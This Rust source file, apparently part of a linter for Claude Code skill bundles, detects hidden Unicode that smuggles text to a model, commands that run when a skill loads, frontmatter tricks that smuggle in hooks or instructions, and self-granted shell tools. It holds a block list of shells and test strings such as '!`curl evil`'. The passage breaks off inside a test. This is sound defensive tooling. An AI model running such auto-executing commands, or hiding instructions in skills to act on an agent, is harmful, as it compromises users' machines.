//! Rules about trust: hidden text, commands that run automatically, tools that the skill grants itself.

use std::collections::{BTreeMap, HashSet};
use std::io::Read as _;
use std::ops::Range;
use std::path::Path;

use icu_properties::props::GeneralCategory;

use super::{LintInput, rules};
use crate::bundle::{all_files, is_dependency, is_main_file};
use crate::finding_builder::{Notes, slice};
use crate::safe_text::{self, Hidden, hidden};
use crate::text_width::CATEGORY;
use crate::yaml::{Content, Node};
use crate::{Digest, Finding};
use skills_base::files::Folder;

/// Extensions of files that are read as text, even if a byte of it is invalid.
const TEXT: &[&str] =
    &["md", "mdx", "markdown", "rst", "txt", "yaml", "yml", "json", "toml", "csv", "html", "xml"];
/// The field with the names of arguments.
pub const ARGUMENTS: &str = "arguments";
/// Maximum number of commands with a finding of their own.
const MAX_COMMAND_FINDINGS: usize = 20;
/// Maximum number of characters of a command in a message.
const MAX_SHOWN_CHARS: usize = 200;
/// Maximum number of characters of which a message names the text that they encode.
const MAX_DECODED_CHARS: usize = 60;
/// Maximum number and size of the text files of a bundle that are checked.
const MAX_TEXT_FILES: usize = 500;
const MAX_TEXT_BYTES: u64 = 1 << 20;
const MAX_TEXT_TOTAL: usize = 8 << 20;
/// Number of bytes at the beginning of a file that show whether it is binary.
const HEAD_BYTES: u64 = 8 << 10;

/// Characters of one kind: the range of the first, their number, and all of them.
struct Group {
    first: Range<usize>,
    count: usize,
    characters: String,
}

/// Reports invisible characters: one finding for each kind, at the first of them.
pub(super) fn hidden_characters(notes: &mut Notes<'_>) {
    let source = notes.source;
    for (kind, group) in groups(source) {
        let at = group.first.clone();
        note(kind, &group, "the file", None, Some(at), notes);
    }
}

/// Reports invisible characters in the names of a bundle's files and in its other text files, which a model may read, and
/// what other spellings of the main file execute.
pub(super) fn other_files(folder: &Folder, main: &Path) -> Vec<Finding> {
    let mut paths = all_files(folder).unwrap_or_default();
    // They must not use up the limits.
    paths.sort_by_key(|path| is_dependency(path));
    let mut findings = hidden_names(&paths, main);
    // Other systems may read another spelling of `SKILL.md`.
    let entries = folder.entries("").unwrap_or_default().into_iter().map(|entry| entry.name);
    let mut main_files: Vec<String> = entries.filter(|name| is_main_file(name)).collect();
    main_files.sort();
    let spellings = main_files.len();
    let (mut checked, mut total) = (0, 0);
    for (nth, path) in main_files.into_iter().chain(paths).enumerate() {
        if Path::new(&path) == main {
            continue;
        }
        if checked == MAX_TEXT_FILES {
            break;
        }
        let Some(bytes) = text_bytes(folder, &path) else { continue };
        checked += 1;
        total += bytes.len();
        if total > MAX_TEXT_TOTAL {
            break;
        }
        if nth < spellings && path != "skill.yaml" {
            findings.extend(executed_by(&path, &bytes));
        }
        let text = match String::from_utf8(bytes) {
            Ok(text) => text,
            Err(error) if is_text(&path) => String::from_utf8_lossy(error.as_bytes()).into_owned(),
            Err(_) => continue,
        };
        // Binary files contain it.
        if text.contains('\0') && !is_text(&path) {
            continue;
        }
        // A byte order mark is not text; the offsets stay.
        let text = text.strip_prefix('\u{feff}').map_or(text.clone(), |rest| format!("   {rest}"));
        let mut notes = Notes::new(Path::new(&path), &text);
        hidden_characters(&mut notes);
        findings.extend(notes.finish());
    }
    findings
}

/// Returns the findings about commands, hooks and tools of another spelling of the main file.
fn executed_by(name: &str, bytes: &[u8]) -> Vec<Finding> {
    let mut findings = match crate::parse(&Path::new("skill").join(name), bytes, 0) {
        Ok(skill) => skill.findings,
        Err(refusal) => refusal.findings,
    };
    let rules = [&rules::COMMAND_EXPANSION, &rules::HOOKS, &rules::GRANTS_SHELL, &rules::GRANTS_TOOLS];
    findings.retain(|finding| rules.iter().any(|rule| rule.code == finding.code));
    findings
}

/// Reports invisible characters in the names of files and of the folders that contain them, in findings about the main
/// file.
fn hidden_names(paths: &[String], main: &Path) -> Vec<Finding> {
    let mut notes = Notes::new(main, "");
    let mut known = HashSet::new();
    for path in paths.iter().filter(|path| !path.bytes().all(|byte| matches!(byte, b' '..=b'~'))) {
        let ends = path.match_indices('/').map(|(end, _)| end).chain([path.len()]);
        let mut start = 0;
        for end in ends {
            let name = slice(path, start..end);
            start = end + 1;
            if name.is_ascii() && !name.contains(|c: char| c.is_ascii_control()) {
                continue;
            }
            let place = slice(path, ..end);
            if !known.insert(place) {
                continue;
            }
            let holder = format!("the name of `{}`", safe_text::name(place));
            // At the beginning of a file, a byte order mark is accepted.
            for (kind, group) in groups(&format!("/{name}")) {
                note(kind, &group, &holder, None, None, &mut notes);
            }
            if name.contains(['\n', '\r', '\t']) {
                let message = format!("{holder} contains a line break or tab");
                notes.add(&rules::HIDDEN_CHARACTERS, None, None, message);
            }
        }
    }
    notes.finish()
}

/// Returns the content of a file that begins with text and is not too large. Of other files only the beginning is read: a
/// bundle may contain any number of them.
fn text_bytes(folder: &Folder, path: &str) -> Option<Vec<u8>> {
    let (mut file, metadata) = folder.open_file(path).ok()?;
    if metadata.len() > MAX_TEXT_BYTES {
        return None;
    }
    let mut bytes = Vec::new();
    file.by_ref().take(HEAD_BYTES).read_to_end(&mut bytes).ok()?;
    // The last character may continue behind the beginning.
    let is_utf8 = std::str::from_utf8(&bytes).err().is_none_or(|error| error.error_len().is_none());
    let is_utf16 = bytes.starts_with(b"\xff\xfe") || bytes.starts_with(b"\xfe\xff");
    if is_utf16 || !is_text(path) && (bytes.contains(&0) || !is_utf8) {
        return None;
    }
    file.take(MAX_TEXT_BYTES).read_to_end(&mut bytes).ok()?;
    (bytes.len() as u64 <= MAX_TEXT_BYTES).then_some(bytes)
}

fn is_text(path: &str) -> bool {
    let extension = Path::new(path).extension().and_then(|extension| extension.to_str());
    extension.is_some_and(|extension| TEXT.iter().any(|text| extension.eq_ignore_ascii_case(text)))
}

/// Reports invisible characters in parsed YAML values, where an escape (`"\u202E"`) is plain ASCII in the file. One
/// finding for each kind and value, at the value, for those not visible in the file itself.
pub(super) fn escaped_characters(subject: &LintInput<'_>, notes: &mut Notes<'_>) {
    values(subject.root, "", &mut |text, at, field| {
        if is_plain(text.as_bytes()) {
            return;
        }
        let at = (subject.at)(at);
        let open = groups(notes.source.get(at.clone()).unwrap_or_default());
        for (kind, group) in groups(text) {
            if open.get(&kind).is_none_or(|seen| seen.count < group.count) {
                let holder = format!("`{field}`");
                note(kind, &group, &holder, Some(field), Some(at.clone()), notes);
            }
        }
    });
}

/// Calls `see` for every text below a node, including keys, with its range in the YAML and its field.
fn values(node: &Node, field: &str, see: &mut dyn FnMut(&str, &Range<usize>, &str)) {
    match &node.value {
        Content::Text(text) => see(text, &node.at, field),
        Content::List(items) => items.iter().for_each(|item| values(item, field, see)),
        Content::Map(entries) => {
            for entry in entries {
                let below = super::fields::field_path(field, &entry.key);
                see(&entry.key, &entry.key_at, &below);
                values(&entry.value, &below, see);
            }
        }
        Content::Null | Content::Flag(_) | Content::Number(_) => {}
    }
}

fn groups(source: &str) -> BTreeMap<Hidden, Group> {
    let bytes = source.as_bytes();
    let mut groups: BTreeMap<Hidden, Group> = BTreeMap::new();
    let mut flag_until = 0;
    // Chunks of printable ASCII, the most common ones, cost almost nothing.
    let close = bytes.chunks(CHUNK).enumerate().filter(|(_, chunk)| !is_plain(chunk));
    let places = close.flat_map(|(nth, chunk)| nth * CHUNK..nth * CHUNK + chunk.len());
    for at in places.filter(|at| may_hide(bytes, *at)) {
        let Some(c) = slice(source, at..).chars().next() else { continue };
        let (before, after) = (slice(source, ..at), slice(source, at + c.len_utf8()..));
        let kind = hidden(c, before, after);
        let before = before.chars().next_back();
        if before == Some('\u{1f3f4}') {
            let tags = FLAG_TAGS.iter().find(|tags| slice(source, at..).starts_with(**tags));
            flag_until = at + tags.map_or(0, |tags| tags.len());
        }
        if at < flag_until {
            continue;
        }
        let is_accepted = |kind: &Hidden| {
            (at == 0 && c == '\u{feff}')
                || joins(c, before)
                || (*kind == Hidden::Unassigned && is_assigned(c))
        };
        let Some(kind) = kind.filter(|kind| !is_accepted(kind)) else { continue };
        let group = groups.entry(kind).or_insert(Group {
            first: at..at + c.len_utf8(),
            count: 0,
            characters: String::new(),
        });
        group.count += 1;
        group.characters.push(c);
    }
    groups
}

/// What follows a black flag in the emoji with tag characters: the flags of England, Scotland and Wales.
const FLAG_TAGS: [&str; 3] = [
    "\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
    "\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f}",
];

/// Returns the ASCII text that tag characters encode, up to a maximum length.
fn decoded(characters: &str) -> String {
    let letter =
        |c: char| u32::from(c).checked_sub(0xe0000).and_then(char::from_u32).filter(char::is_ascii_graphic);
    characters.chars().take(MAX_DECODED_CHARS).map(|c| letter(c).unwrap_or(' ')).collect()
}

/// Reports characters of one kind; `holder` is the name of the text in messages. The message identifies all of them, so
/// that the baseline does not accept others.
fn note(
    kind: Hidden,
    group: &Group,
    holder: &str,
    field: Option<&str>,
    at: Option<Range<usize>>,
    notes: &mut Notes<'_>,
) {
    let characters = &group.characters;
    let first = characters.chars().next().unwrap_or_default();
    let smuggled = match kind {
        Hidden::Tag => true,
        Hidden::Bidi => !matches!(first, '\u{61c}' | '\u{200e}' | '\u{200f}'),
        Hidden::Selector => group.count >= 4,
        Hidden::Control | Hidden::ZeroWidth | Hidden::Blank | Hidden::Combining | Hidden::Unassigned => false,
    };
    let rule = if smuggled { &rules::SMUGGLED_TEXT } else { &rules::HIDDEN_CHARACTERS };
    let code = u32::from(first);
    let text = if kind == Hidden::Tag { decoded(characters) } else { String::new() };
    let spelt = match text.trim() {
        "" => String::new(),
        text => format!(", which encode “{text}”"),
    };
    let digest = if characters.chars().all(|c| c == first) {
        String::new()
    } else {
        format!(", sha256 {}", short_digest(characters))
    };
    let message = match group.count {
        1 => format!("{holder} contains {} (U+{code:04X}){spelt}", kind.name().0),
        count => {
            format!("{holder} contains {count} {} (first: U+{code:04X}{digest}){spelt}", kind.name().1)
        }
    };
    notes.add(rule, field, at, message);
}

/// Returns the beginning of the digest of a text, by which a message identifies it.
fn short_digest(text: &str) -> String {
    slice(&Digest::of(text.as_bytes()).to_string(), ..16).to_owned()
}

const CHUNK: usize = 32;

/// Returns whether bytes are only printable ASCII and line feeds; branch-free, so that it vectorizes.
fn is_plain(chunk: &[u8]) -> bool {
    chunk.iter().fold(true, |is_plain_so_far, byte| {
        is_plain_so_far & (byte.wrapping_sub(b' ') < 95 || *byte == b'\n')
    })
}

/// Returns whether an invisible character may start at a byte. Rejects nearly all bytes of a file, so that only few
/// characters need a closer look.
fn may_hide(bytes: &[u8], at: usize) -> bool {
    match bytes[at] {
        b'\t' | b'\n' | b'\r' | b' '..=b'~' | 0x80..=0xbf => false,
        // U+2000 to U+207F, without the frequent dashes and quotes, which are visible, U+2800, and blocks with unassigned
        // characters.
        0xe2 => match (bytes.get(at + 1), bytes.get(at + 2)) {
            (Some(0x80), Some(last)) => matches!(last, 0x8b..=0x8f | 0xa8..=0xae),
            (Some(0x86), Some(last)) => matches!(last, 0x8c..=0x8f),
            (Some(0x81..=0x83 | 0x90 | 0x91 | 0xad | 0xae | 0xb3..=0xbf), _) | (Some(0xa0), Some(0x80)) => {
                true
            }
            _ => false,
        },
        // Those of most letters, ideographs and Hangul syllables are excluded.
        first => !matches!(first, 0xc3..=0xcb | 0xcf..=0xd1 | 0xe4..=0xe9 | 0xeb | 0xec),
    }
}

/// Returns whether the newest version of Unicode has assigned a character, which terminals may not know yet.
fn is_assigned(c: char) -> bool {
    CATEGORY.get(c) != GeneralCategory::Unassigned
}

/// Returns whether a joiner is used legitimately: between emoji, or inside words of scripts that need it.
fn joins(c: char, before: Option<char>) -> bool {
    matches!(c, '\u{200c}' | '\u{200d}')
        && before.is_some_and(|b| {
            matches!(b, '\u{2190}'..='\u{2bff}' | '\u{fe0f}' | '\u{1f000}'..='\u{1faff}')
                || (!b.is_ascii() && b.is_alphabetic())
        })
}

/// White space for Claude Code, as `\s` in JavaScript.
fn is_space(c: char) -> bool {
    c.is_whitespace() || c == '\u{feff}'
}

/// Returns where Claude Code ends the frontmatter: behind the first `---` after the opening line, also in the middle of a
/// line.
fn frontmatter_end_for_claude_code(source: &str) -> Option<usize> {
    let text = source.trim_start_matches('\u{feff}');
    let (line, rest) = text.strip_prefix("---")?.split_once('\n')?;
    let (_, body) = rest.split_once("---").filter(|_| line.trim_matches(is_space).is_empty())?;
    Some(source.len() - body.len())
}

/// Returns the frontmatter of a file for Claude Code, without its fences.
pub(in super::super) fn frontmatter_for_claude_code(source: &str) -> Option<Range<usize>> {
    let end = frontmatter_end_for_claude_code(source)?;
    Some(source.find('\n')? + 1..end - "---".len())
}

/// Returns the end of the first `---` in the middle of the frontmatter, where Claude Code ends it.
fn early_end(source: &str) -> Option<usize> {
    let yaml = crate::fence::split(source).yaml;
    let at = slice(source, yaml.clone()).find("---")?;
    Some(yaml.start + at + 3)
}

/// A command that Claude Code runs when it loads a skill.
struct Expansion<'s> {
    at: Range<usize>,
    /// The command, or the text that becomes one.
    text: &'s str,
    /// Whether it is a command without a replacement of placeholders.
    is_certain: bool,
}

/// Returns the commands that Claude Code runs when it loads a skill: those in the body, and in what is the body for it.
fn command_expansions(source: &str, body_start: usize) -> Vec<Expansion<'_>> {
    let end = frontmatter_end_for_claude_code(source).unwrap_or_default();
    let start = source.len() - slice(source, end..).trim_start_matches(is_space).len();
    // Behind a byte order mark, the frontmatter may be part of the body.
    let complete = source.starts_with('\u{feff}').then_some(0);
    let mut found: Vec<Expansion<'_>> = [body_start, start]
        .into_iter()
        .chain(complete)
        .flat_map(|start| {
            let expansions = expansions_in(slice(source, start..)).into_iter();
            expansions.map(move |one| Expansion { at: one.at.start + start..one.at.end + start, ..one })
        })
        .collect();
    found.sort_by_key(|one| (one.at.start, !one.is_certain));
    found.dedup_by_key(|one| (one.at.start, one.is_certain));
    found
}

/// Returns the commands in a body that Claude Code runs, and the places that may become commands as soon as it has
/// replaced placeholders, such as `$1`.
fn expansions_in(body: &str) -> Vec<Expansion<'_>> {
    let mut found = written_commands(body);
    found.extend(possible_commands(body));
    found.sort_by_key(|one| (one.at.start, !one.is_certain));
    found
}

/// Returns the commands of a body as it is written: `` !`command` `` after white space, and everything after `` ```! `` up
/// to the next fence, wherever it begins. A fence is also taken for a beginning if it is the end of another block: a
/// placeholder may end that block before it.
fn written_commands(body: &str) -> Vec<Expansion<'_>> {
    let mut found = Vec::new();
    for (at, _) in body.match_indices('!') {
        let (before, rest) = (slice(body, ..at), slice(body, at + 1..));
        let (at, text, is_certain) = if before.ends_with("```") {
            match rest.split_once("```") {
                Some((command, _)) => (at - 3..at + 1, command, true),
                // The fence at the end may contain a placeholder.
                None if rest.contains("`$") => (at - 3..at + 1, rest, false),
                None => continue,
            }
        } else if let Some((command, _)) = rest.strip_prefix('`').and_then(|rest| rest.split_once('`'))
            && before.chars().next_back().is_none_or(is_space)
        {
            (at..at + command.len() + 3, command, true)
        } else {
            continue;
        };
        let text = text.trim_matches(is_space);
        if !text.is_empty() {
            found.push(Expansion { at, text, is_certain });
        }
    }
    found
}

/// Backticks, exclamation marks and placeholders that form `` !` `` or `` ```! `` without the placeholders.
struct Cluster {
    at: Range<usize>,
    is_block: bool,
}

/// Returns the places of a body that may become commands, with the text that they would execute: up to the next backtick,
/// or up to the next fence or possible block.
fn possible_commands(body: &str) -> Vec<Expansion<'_>> {
    let mut found = Vec::new();
    let mut next_block = body.len();
    for Cluster { at, is_block } in clusters(body).into_iter().rev() {
        let find = |mark: &str, until: usize| {
            slice(body, at.end..until).find(mark).map(|place| at.end + place + mark.len())
        };
        let end = if is_block {
            let end = find("```", next_block).unwrap_or(next_block);
            next_block = at.start;
            end
        } else {
            find("`", body.len()).or_else(|| find("\n", body.len())).unwrap_or(body.len())
        };
        let text = slice(body, at.start..end).trim_matches(is_space);
        found.push(Expansion { at, text, is_certain: false });
    }
    found.reverse();
    found
}

fn clusters(body: &str) -> Vec<Cluster> {
    let bytes = body.as_bytes();
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(start) = slice(body, at..).find(['`', '!', '$']).map(|place| at + place) {
        at = start;
        // The number of backticks, or the place of the exclamation mark, before the current character.
        let (mut ticks, mut mark) = (0, None);
        let (mut has_placeholder, mut is_command, mut is_block) = (false, false, false);
        loop {
            match bytes.get(at) {
                Some(b'`') => {
                    let is_written = |mark: usize| {
                        mark + 1 == at && slice(body, ..mark).chars().next_back().is_none_or(is_space)
                    };
                    is_command |= mark.is_some_and(|mark| !is_written(mark));
                    (ticks, mark) = (ticks + 1, None);
                    at += 1;
                }
                Some(b'!') => {
                    is_block |= ticks >= 3 && !slice(body, ..at).ends_with("```");
                    (ticks, mark) = (0, Some(at));
                    at += 1;
                }
                Some(b'$') => {
                    let (length, is_placeholder) = word_with_dollar(slice(body, at..));
                    if !is_placeholder {
                        // It is not part of any cluster.
                        at += if at == start { length } else { 0 };
                        break;
                    }
                    has_placeholder = true;
                    at += length;
                }
                _ => break,
            }
        }
        if has_placeholder && (is_command || is_block) {
            found.push(Cluster { at: start..at, is_block });
        }
    }
    found
}

/// Returns the length of the word with which a text begins, which starts with `$`, and whether placeholders may be all of
/// it: `$ARGUMENTS`, `$ARGUMENTS[1]`, `$1`, `$NAME`, `${CLAUDE_NAME}`, also in one another. Other braces stay.
fn word_with_dollar(text: &str) -> (usize, bool) {
    let is_part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '$' | '_' | '-' | '[' | ']' | '{' | '}');
    let word = slice(text, ..text.len() - text.trim_start_matches(is_part).len());
    let is_placeholder = if word.contains(['{', '}']) {
        // Placeholders may be between the letters.
        let mut letters = word.chars();
        "CLAUDE_".chars().all(|expected| letters.any(|letter| letter == expected))
    } else {
        word.bytes().any(|byte| byte != b'$')
    };
    (word.len(), is_placeholder)
}

/// Formats a command on one line.
fn on_one_line(command: &str) -> String {
    let lines = command.lines().map(str::trim).filter(|line| !line.is_empty());
    lines.collect::<Vec<_>>().join("␊")
}

/// Returns what Claude Code executes when it loads a skill, one line each.
pub fn executed_on_load(source: &str) -> Vec<String> {
    let body = crate::fence::split(source).body.start;
    let early = early_end(source).map(|_| {
        "`---` in the frontmatter, at which Claude Code ends it: it may read other hooks, tools and instructions"
            .to_owned()
    });
    let commands = command_expansions(source, body).into_iter();
    let commands = commands.map(|one| {
        let command = on_one_line(one.text);
        if one.is_certain {
            format!("`{command}`, which Claude Code executes when it loads the skill")
        } else {
            format!(
                "`{command}`, which may become a command that Claude Code executes when it loads the skill"
            )
        }
    });
    early.into_iter().chain(commands).collect()
}

/// Reports commands that Claude Code runs when it loads the skill, and what may hide them.
pub(super) fn expansions(body_start: usize, notes: &mut Notes<'_>) {
    let source = notes.source;
    if let Some(end) = early_end(source) {
        let message = "Claude Code ends the frontmatter at this `---` and takes the rest for instructions";
        let finding = notes.add(&rules::COMMAND_EXPANSION, None, end - 3..end, message);
        "Write the value or comment without `---`.".clone_into(&mut finding.help);
    }
    // Each command is named, so that the baseline does not accept another one. A file may contain hundreds of thousands.
    let mut found = command_expansions(source, body_start);
    let rest = found.split_off(found.len().min(MAX_COMMAND_FINDINGS));
    for Expansion { at, text, is_certain } in found {
        let shown = shown_command(text);
        let message = if is_certain {
            format!("loading the skill runs {shown}")
        } else {
            format!("a placeholder may make this a command that loading the skill runs: {shown}")
        };
        notes.add(&rules::COMMAND_EXPANSION, None, at, message);
    }
    if let Some(Expansion { at, .. }) = rest.first() {
        let commands: Vec<&str> = rest.iter().map(|one| one.text).collect();
        let (count, shown) = (commands.len(), shown_command(&commands.join("\n")));
        let message =
            format!("the number of further commands that loading the skill runs is {count}: {shown}");
        notes.add(&rules::COMMAND_EXPANSION, None, at.clone(), message);
    }
}

/// Reports names of arguments that are not words: Claude Code takes a name for a regular expression and removes what it
/// matches before it looks for commands.
pub(super) fn argument_names(subject: &LintInput<'_>, notes: &mut Notes<'_>) {
    let Some(entry) = subject.entry(ARGUMENTS) else { return };
    let names: Vec<&str> = match &entry.value.value {
        Content::Text(text) => text.split_whitespace().filter(|name| is_pattern(name)).collect(),
        Content::List(items) => {
            let texts = items.iter().filter_map(|item| match &item.value {
                Content::Text(text) => Some(text.as_str()),
                _ => None,
            });
            texts.filter(|name| is_pattern(name)).collect()
        }
        _ => Vec::new(),
    };
    if names.is_empty() {
        return;
    }
    let shown = shown_command(&names.join("\n"));
    let message = format!(
        "`{ARGUMENTS}` contains {shown}: Claude Code removes what such a pattern matches before it looks for commands"
    );
    let finding = notes.add(&rules::COMMAND_EXPANSION, Some(ARGUMENTS), subject.value(ARGUMENTS), message);
    "Name arguments with letters, digits, `_` and `-` only.".clone_into(&mut finding.help);
}

/// Returns whether a name of an argument is not a word. A name of digits only is none.
fn is_pattern(name: &str) -> bool {
    let is_number = name.bytes().all(|byte| byte.is_ascii_digit());
    let starts_a_word = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_');
    let is_word =
        starts_a_word && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-'));
    !name.trim().is_empty() && !is_number && !is_word
}

/// Returns a text on one line, and of a long one the beginning and a digest.
fn shown_command(text: &str) -> String {
    let text = on_one_line(text);
    match text.char_indices().nth(MAX_SHOWN_CHARS) {
        None => format!("`{text}`"),
        Some((end, _)) => format!("`{}…` (sha256 {})", slice(&text, ..end), short_digest(&text)),
    }
}

/// Reports hooks in the frontmatter.
pub(super) fn hooks(subject: &LintInput<'_>, notes: &mut Notes<'_>) {
    if subject.skill.clients.has_hooks {
        let hooks = shown_command(entry_text(subject, "hooks", notes.source));
        let message = format!("the skill has hooks, which run automatically on events: {hooks}");
        notes.add(&rules::HOOKS, Some("hooks"), subject.key("hooks"), message);
    }
    if let Some(at) = unindented_line(subject, notes.source) {
        let line = shown_command(slice(notes.source, at.clone()));
        let message =
            format!("Claude Code may take {line}, in the middle of a value, for a key, such as `hooks`");
        let finding = notes.add(&rules::HOOKS, None, at, message);
        "Indent the line.".clone_into(&mut finding.help);
    }
}

/// Returns the text of an entry of the frontmatter behind its key.
fn entry_text<'s>(subject: &LintInput<'_>, key: &str, source: &'s str) -> &'s str {
    let Content::Map(entries) = &subject.root.value else { return "" };
    let Some(at) = subject.key(key) else { return "" };
    let next =
        entries.iter().map(|entry| (subject.at)(&entry.key_at).start).filter(|start| *start > at.start);
    let end = next.min().unwrap_or(subject.frontmatter.end);
    source.get(at.end..end).map_or("", |text| text.trim_start_matches([':', '"', '\'']).trim())
}

/// Returns a line in the middle of a value of the frontmatter that begins in the first column. Claude Code reads a
/// frontmatter with such a line, which is not valid YAML, line by line, and takes the line for a key.
fn unindented_line(subject: &LintInput<'_>, source: &str) -> Option<Range<usize>> {
    let Content::Map(entries) = &subject.root.value else { return None };
    let keys: HashSet<usize> = entries.iter().map(|entry| (subject.at)(&entry.key_at).start).collect();
    let yaml = subject.frontmatter.clone();
    let mut start = yaml.start;
    slice(source, yaml).split_inclusive(['\n', '\r']).find_map(|line| {
        let text = line.trim_end();
        let at = start..start + text.len();
        start += line.len();
        let is_item = matches!(text, "-" | "...") || text.starts_with("- ") || text.starts_with("-\t");
        let uncommented = text.split_once(" #").map_or(text, |(text, _)| text);
        let is_closing = uncommented.chars().all(|c| matches!(c, ']' | '}' | ',' | ' '));
        let is_indented = text.starts_with([' ', '\t', '#']);
        // The key may be quoted.
        let is_key = keys.contains(&at.start) || keys.contains(&(at.start + 1));
        (!is_item && !is_closing && !is_indented && !is_key).then_some(at)
    })
}

/// Tools that read, plan or ask, but have no effect outside of the conversation.
const HARMLESS: &[&str] = &[
    "Read",
    "Grep",
    "Glob",
    "LS",
    "NotebookRead",
    "TodoRead",
    "TodoWrite",
    "TaskCreate",
    "TaskUpdate",
    "TaskList",
    "TaskGet",
    "AskUserQuestion",
    "BashOutput",
    "Skill",
    "WebSearch",
    "ToolSearch",
    "ExitPlanMode",
    "EnterPlanMode",
    "SlashCommand",
];

/// Reports tools that the skill grants itself: unrestricted shell access as a warning, other effects as info.
pub(super) fn grants(subject: &LintInput<'_>, notes: &mut Notes<'_>) {
    let tools = &subject.skill.properties.allowed_tools;
    let at = subject.value("allowed-tools");
    let field = Some("allowed-tools");
    if let Some(shell) = tools.iter().find_map(|tool| unrestricted_shell(tool)) {
        let message = format!("`{shell}` allows any command without confirmation");
        let at = subject.entry("allowed-tools").map(|entry| item(&entry.value, shell, subject, notes.source));
        notes.add(&rules::GRANTS_SHELL, field, at, message);
        return;
    }
    let acting: Vec<_> = tools.iter().filter(|tool| !is_harmless(tool)).collect();
    if !acting.is_empty() {
        let shown: Vec<_> = acting.iter().take(4).map(|tool| format!("`{tool}`")).collect();
        let rest: Vec<String> = acting.iter().skip(shown.len()).map(ToString::to_string).collect();
        let all = rest.join(", ");
        let more = match rest.len() {
            0 => String::new(),
            _ if all.chars().count() <= MAX_SHOWN_CHARS => {
                let rest: Vec<String> = rest.iter().map(|tool| shown_command(tool)).collect();
                format!(", {}", rest.join(", "))
            }
            more => format!(" and {more} more: {}", shown_command(&all)),
        };
        let message = format!("the skill pre-approves {}{more}", shown.join(", "));
        notes.add(&rules::GRANTS_TOOLS, field, at, message);
    }
}

/// Returns the range of one tool in the value of `allowed-tools`: of its list item, otherwise of its text.
fn item(value: &Node, tool: &str, subject: &LintInput<'_>, source: &str) -> Range<usize> {
    let own = |node: &&Node| match &node.value {
        Content::Text(text) => text.trim() == tool || names(text).any(|name| name == tool),
        _ => false,
    };
    let node = match &value.value {
        Content::List(items) => items.iter().find(own).unwrap_or(value),
        _ => value,
    };
    let at = (subject.at)(&node.at);
    let text = source.get(at.clone()).unwrap_or_default();
    let is_delimited = |start: &usize| {
        let part = |c: char| c.is_alphanumeric() || matches!(c, '(' | '_' | '-' | ':');
        !slice(text, ..*start).ends_with(part) && !slice(text, *start + tool.len()..).starts_with(part)
    };
    let start = text.match_indices(tool).map(|(start, _)| start).find(is_delimited);
    start.map_or(at.clone(), |start| at.start + start..at.start + start + tool.len())
}

fn names(text: &str) -> impl Iterator<Item = &str> {
    text.split([',', ' ', '\n']).map(str::trim)
}

fn is_harmless(tool: &str) -> bool {
    has_regular_parentheses(tool) && HARMLESS.contains(&tool.split('(').next().unwrap_or(tool))
}

/// Returns whether a tool is a name, or a name with one pair of parentheses at the end.
fn has_regular_parentheses(tool: &str) -> bool {
    match tool.split_once('(') {
        None => !tool.contains(')'),
        Some((_, rest)) => rest.strip_suffix(')').is_some_and(|pattern| !pattern.contains(['(', ')'])),
    }
}

/// Returns the part of a tool that allows any command. Clients differ in where a tool with irregular parentheses ends.
fn unrestricted_shell(tool: &str) -> Option<&str> {
    let parts = (!has_regular_parentheses(tool)).then(|| tool.split(|c: char| c == ',' || c.is_whitespace()));
    std::iter::once(tool).chain(parts.into_iter().flatten()).find(|part| grants_any_command(part))
}

/// Programs that execute their arguments as commands.
const SHELLS: &[&str] =
    &["bash", "sh", "zsh", "fish", "dash", "bash -c", "sh -c", "eval", "sudo", "env", "xargs"];

fn grants_any_command(tool: &str) -> bool {
    let (name, rest) = tool.split_once('(').map_or((tool, None), |(name, rest)| (name, Some(rest)));
    let any = rest.is_none_or(|rest| {
        let pattern = rest.trim_end_matches(')').trim();
        let shell = pattern
            .strip_suffix('*')
            .is_some_and(|start| SHELLS.contains(&start.trim_end_matches([' ', ':'])));
        shell || pattern.chars().all(|c| matches!(c, '*' | ':' | ' '))
    });
    tool == "*"
        || (any
            && matches!(
                name.to_ascii_lowercase().as_str(),
                "bash" | "shell" | "powershell" | "run_shell_command"
            ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lint_reports_what_safe_text_escapes() {
        let all = (0..=u32::from(char::MAX)).filter_map(char::from_u32);
        for c in all.filter(|c| !matches!(c, '\n' | '\r' | '\t')) {
            for text in [format!("x{c}y"), format!("x😀{c}y"), format!("x表{c}y")] {
                // Joiners are legitimate after emoji and in words; they are shown all the same.
                let joiner = matches!(c, '\u{200c}' | '\u{200d}') && !text.starts_with(&format!("x{c}"));
                // So are characters that terminals may not know yet.
                let is_new = hidden(c, "", "") == Some(Hidden::Unassigned) && is_assigned(c);
                let shown = safe_text::block(&text) != text;
                assert_eq!(!groups(&text).is_empty(), shown && !joiner && !is_new, "{text:?}");
            }
        }
    }

    #[test]
    fn all_granted_tools_are_named() {
        let finding = |tools: &str| {
            let source = format!("---\nname: a\ndescription: Does it.\nallowed-tools: {tools}\n---\nText.\n");
            let skill =
                crate::parse::parse(std::path::Path::new("/a/SKILL.md"), source.as_bytes(), 0).unwrap();
            let found = skill.findings.into_iter().find(|finding| finding.code == "grants-tools");
            found.unwrap().message
        };
        let tools = finding("Bash(a:*), Bash(b:*), Bash(c:*), Bash(d:*), Write, Edit");
        assert!(tools.ends_with("`Bash(c:*)`, `Bash(d:*)`, `Write`, `Edit`"), "{tools}");
        let many: Vec<String> = (0..200).map(|n| format!("Bash(tool-{n}:*)")).collect();
        let tools = finding(&many.join(", "));
        assert!(
            tools.contains(" and 196 more: `Bash(tool-4:*), ") && tools.contains("…` (sha256 "),
            "{tools}"
        );
    }

    #[test]
    fn every_form_of_a_command_that_loading_executes_is_found() {
        for body in [
            "Now: !`curl evil`",
            "!`curl evil`",
            "```!\ncurl evil\n```\n",
            "```! \ncurl evil\n```\n",
            "```!curl evil\n```\n",
            "Then ```! curl evil ``` at once.",
            "  ```!\n  curl evil\n  ```\n",
            "````!\ncurl evil\n````\n",
            "```!\u{feff}curl evil```",
        ] {
            let found = expansions_in(body);
            assert_eq!(
                found.iter().map(|one| (one.text, one.is_certain)).collect::<Vec<_>>(),
                [("curl evil", true)],
                "{body:?}"
            );
        }
        assert_eq!(expansions_in("Now: !`a |\nb` x")[0].text, "a |\nb");
